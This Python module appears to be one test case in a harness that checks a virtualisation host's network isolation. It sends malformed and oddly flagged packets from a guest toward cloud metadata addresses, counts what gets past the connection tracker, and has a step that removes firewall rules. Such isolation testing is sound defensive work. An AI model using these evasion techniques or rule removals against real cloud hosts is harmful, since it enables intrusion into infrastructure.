"""A guest of a host that is a cloud instance sends what a connection tracker does not take for a connection.

Flags that begin and end at once, wrong checksums and lengths, fragments, headers and tags, to the metadata addresses, while the server
runs. What a redirection does not see is routed as it is. Gained: packets in front of the host's own cloud, which answers them as it sees
fit. In the way: what a guest's tap sends to a metadata address and port 80 becomes a packet for our socket or is dropped, whatever it is.
"""

import struct

import attack
import rules
import wire
from attack import Outcome
from attacks.lib import cloud
from attacks.syn_kinds import Sender, kinds
from field import Field
from host import Host


def _broken(frame: bytes, at: int, value: int) -> bytes:
    """A frame with another byte."""
    return frame[:at] + bytes([value]) + frame[at + 1:]


class Attack(attack.Attack):
    """Every odd packet."""

    hosts = ("cloud",)
    proofs = (("cloud", 4), ("cloud", 6))

    def attack(self, field: Field) -> None:
        """Sends them, as fast as it can."""
        card, sender, port = wire.Wire(), Sender(field), 20000
        start = 34 if field.family == 4 else 54
        makers, sent = list(kinds(sender).values()), 0
        field.ready()
        while field.goes_on():
            port = 20000 + (port + 1) % 40000
            frames = [frame for make in makers for frame in make(port)]
            frames += [sender.plain(port, flags=flags)[0] for flags in range(0, 64, 3)]
            whole = sender.plain(port)[0]
            frames += [_broken(whole, start + 16, whole[start + 16] ^ 0xFF)]
            frames += [_broken(whole, start + 12, 0x40), _broken(whole, start + 12, 0xF0)]
            frames.append(wire.tagged(whole, (wire.VLAN, 7)))
            if field.family == 4:
                # A header longer than the packet, and one whose checksum is wrong.
                frames += [_broken(whole, 14, 0x4F), whole[:24] + struct.pack("!H", 0xDEAD) + whole[26:]]
            card.send(*frames)
            sent += len(frames)
            for _ in card.received(0.004):
                pass
        field.report["sent"] = sent

    def during(self, host: Host, outcome: Outcome) -> None:
        """Looks at the cloud."""
        outcome.host_report["seen"] = cloud.Sniffer().count(host, 2)

    def gained(self, outcome: Outcome) -> str | None:
        """What reached the cloud."""
        return f"{outcome.host_report['seen']} packets for the host's cloud" if outcome.host_report["seen"] else None

    def weaken(self, host: Host) -> None:
        """Lets the forger's packets be routed."""
        rules.overlook(host.forger.tap)
        rules.remove(r"port 80 |frag", "inet")
